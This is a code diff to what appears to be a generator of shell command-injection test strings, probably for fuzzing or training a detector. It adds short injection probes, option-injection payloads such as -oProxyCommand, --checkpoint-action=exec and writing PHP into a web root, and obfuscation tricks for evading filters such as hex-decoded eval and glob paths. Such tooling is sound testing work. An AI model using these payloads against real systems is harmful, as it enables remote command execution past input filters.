@@ -4,6 +4,7 @@ import type { Random } from "../random.ts"
 import { codeCall, evaluatedCode, scriptTag, serverSideInclude } from "./code-injection.ts"
 import { type Grammar, hostName, identifier, oneOf } from "./grammar.ts"
 import { unixLine } from "./unix-commands.ts"
+import { plainCommand } from "./unix-tricks.ts"
 import { hostValue, insertPiece, windowsInjection } from "./windows-command-injection.ts"
 
 /**
@@ -36,12 +37,48 @@ const FORMS: readonly Grammar[] = [
   evaluatedCode,
   evaluatedCode,
   bareCommand,
+  shortProbe,
+  shortProbe,
+  optionInjection,
 ]
 
 /** A command that stands alone has arguments, or it would be a word like any other. */
 function bareCommand(random: Random): string {
   const line = unixLine(random)
   return /[ /]/.test(line) ? line : bareCommand(random)
+}
+
+/** The few characters by which one first asks whether a field reaches a shell. */
+function shortProbe(random: Random): string {
+  const command = `${random.pick(["", "", "", "/bin/", "/usr/bin/"])}${plainCommand(random)}`
+  const value = random.pick(["", "", "", "a", "1", "x", "test", "a)", "a'", 'a"', "index.html"])
+  const gap = random.pick(["", "", " "])
+  const [open, close] = random.pick([
+    ["`", "`"],
+    ["$(", ")"],
+  ] as const)
+  return oneOf(random, [
+    () => `${value}${gap}${separator(random)}${gap}${command}${trailer(random)}`,
+    () => `${value}${separator(random)}${command}${random.pick(["", ";", "|", "&", "#", "||"])}`,
+    () => `${value}${open}${command}${close}`,
+    () => `${command}${random.pick([";", "|", "\n"])}`,
+  ])
+}
+
+/** Options by which a harmless program runs another, or writes where it is told to. */
+function optionInjection(random: Random): string {
+  const command = random.pick([plainCommand, unixLine])(random)
+  return random.pick([
+    `-oProxyCommand=${command}`,
+    `--upload-pack=${command}`,
+    `--use-compress-program=${command}`,
+    `--checkpoint-action=exec=${command}`,
+    `--output=/var/www/html/${identifier(random)}.php`,
+    `-exec ${command} \\;`,
+    `--rsh='${command}'`,
+    `ext::sh -c ${command.replaceAll(" ", "% ")}`,
+    `--pre-script=${command}`,
+  ])
 }
 
 function unixInjection(random: Random): string {
@@ -151,6 +188,17 @@ function disguise(random: Random, line: string): string {
         (_, head: string, tail: string) => `${identifier(r).slice(0, 1)}=${head};b=${tail};$a$b`,
       ),
     () => line.replace("/etc/passwd", "/???/p??s??"),
+    (r) =>
+      line.replace(
+        /^[a-z]+/,
+        (word) => `/${r.pick(["bin", "b?n", "???", "usr/bin"])}/${insertPiece(r, word, "?")}`,
+      ),
+    () => line.replace(/^[a-z]+/, (word) => insertPiece(random, word, "$()")),
+    () => line.replace(/^[a-z]+/, (word) => word.split("").join(random.pick(["\\", "''", '""']))),
+    () => `eval "$(echo ${[...line].map((c) => c.charCodeAt(0).toString(16)).join("")}|xxd -r -p)"`,
+    () =>
+      `${random.pick(["bash", "sh"])}<<<${random.pick(["'", '"'])}${line}${random.pick(["'", '"'])}`,
+    () => `IFS=,;\`cat<<<${line.replaceAll(" ", ",")}\``,
     () => `X='${line}';$X`,
   ])
 }
